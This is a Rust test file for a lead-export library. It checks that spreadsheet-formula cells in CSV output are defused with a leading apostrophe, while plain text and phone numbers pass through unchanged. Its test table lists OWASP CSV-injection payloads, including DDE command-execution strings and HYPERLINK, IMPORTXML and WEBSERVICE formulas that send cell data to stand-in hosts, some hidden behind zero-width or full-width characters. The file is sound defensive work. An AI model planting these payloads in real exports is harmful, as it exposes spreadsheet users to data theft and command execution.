//! The CSV formula defence against every OWASP CSV-injection vector
//! (<https://owasp.org/www-community/attacks/CSV_Injection>), the hiding
//! characters of issue 16 (leading whitespace, control and zero-width
//! characters) and the full-width triggers, through `defuse_formula` and
//! through a whole exported row read back as a spreadsheet would.

use std::collections::HashMap;

use chrono::DateTime;
use leadkit_core::{BotId, LeadId, LeadStatus};
use leadkit_store::csv::{CsvEncoder, defuse_formula};
use leadkit_store::{CsvOptions, ExportRow};

/// Cells a spreadsheet could run as a formula: each must come out behind
/// the defusing `'`, its value whole.
const FORMULAS: &[(&str, &str)] = &[
    // OWASP's triggers and payloads.
    ("equals", "=1+1"),
    ("plus", "+1+1"),
    ("minus", "-1+1"),
    ("at", "@SUM(1,1)"),
    ("tab", "\t=1+1"),
    ("carriage return", "\r=1+1"),
    (
        "hyperlink",
        "=HYPERLINK(\"http://evil.example?leak=\"&A1,\"Click\")",
    ),
    ("dde cmd", "=cmd|' /C calc'!A0"),
    ("dde behind plus", "+cmd|' /C calc'!A0"),
    ("dde behind minus", "-2+3+cmd|' /C calc'!A0"),
    ("dde behind at", "@SUM(1+1)*cmd|' /C calc'!A0"),
    (
        "importxml",
        "=IMPORTXML(CONCAT(\"http://x.example/?v=\",CONCATENATE(A2:E2)),\"//a\")",
    ),
    ("webservice", "=WEBSERVICE(\"http://x.example/\"&A1)"),
    ("quoted dde", "=\"cmd\"|' /C notepad'!'A1'"),
    ("minus only", "-"),
    ("negative number", "-5"),
    ("plus phone with spaces", "+1 415 555 2671"),
    // Hidden starts (issue 16, gap 8).
    ("space", " =1+1"),
    ("spaces and tab", "  \t=1+1"),
    ("line feed", "\n=1+1"),
    ("vertical tab", "\x0b=1+1"),
    ("form feed", "\x0c+1"),
    ("nul-like control", "\x01@x"),
    ("no-break space", "\u{a0}=1+1"),
    ("zero-width space", "\u{200b}=1+1"),
    ("zero-width non-joiner", "\u{200c}-1"),
    ("zero-width joiner", "\u{200d}@x"),
    ("word joiner", "\u{2060}=1"),
    ("byte-order mark", "\u{feff}=1+1"),
    ("mixed hiders", " \u{200b}\u{a0}\t\u{feff}=1+1"),
    ("blank before e164", " +14155552671"),
    // Full-width triggers, bare and hidden.
    ("full-width equals", "＝1+1"),
    ("full-width plus", "＋1+1"),
    ("full-width minus", "－1+1"),
    ("full-width at", "＠SUM(1,1)"),
    ("hidden full-width", "\u{200b} ＝1+1"),
];

/// Cells that are text or a number to a spreadsheet: each must come out
/// exactly as it went in.
const PLAIN: &[(&str, &str)] = &[
    ("empty", ""),
    ("name", "Ana López"),
    ("email", "ana@example.com"),
    ("e164", "+14155552671"),
    ("short e164", "+4930123"),
    ("trigger inside", "a=1+1"),
    ("spaces only", "   "),
    ("zero-width only", "\u{200b}"),
    ("apostrophe", "'quoted"),
    ("full-width text", "ＡＢＣ"),
];

#[test]
fn every_formula_vector_is_defused() {
    for (what, cell) in FORMULAS {
        assert_eq!(
            defuse_formula(cell),
            format!("'{cell}"),
            "{what} must be defused"
        );
    }
}

#[test]
fn text_and_exact_e164_stay_readable() {
    for (what, cell) in PLAIN {
        assert_eq!(defuse_formula(cell), *cell, "{what} must stay as it is");
    }
}

#[test]
fn an_exported_row_defuses_every_text_column() {
    let bot = BotId::from_u128(1);
    let at = DateTime::UNIX_EPOCH;
    for (what, cell) in FORMULAS {
        let row = ExportRow::new(LeadId::from_u128(2), bot, at, at, LeadStatus::New)
            .name(*cell)
            .email(*cell)
            .phone(*cell)
            .company(*cell)
            .consent(true, at, *cell)
            .notes(*cell);
        let mut encoder = CsvEncoder::new(HashMap::from([(bot, (*cell).to_owned())]));
        let mut bytes = encoder.head(CsvOptions::new()).expect("header");
        bytes.extend(encoder.page(&[row]).expect("page"));
        let mut reader = csv::ReaderBuilder::new()
            .has_headers(true)
            .from_reader(bytes.as_slice());
        let record = reader
            .records()
            .next()
            .expect("one row")
            .expect("valid CSV");
        for column in [3, 5, 6, 7, 8, 11, 13] {
            assert_eq!(
                &record[column],
                format!("'{cell}"),
                "{what}: column {column} must read back defused"
            );
        }
    }
}
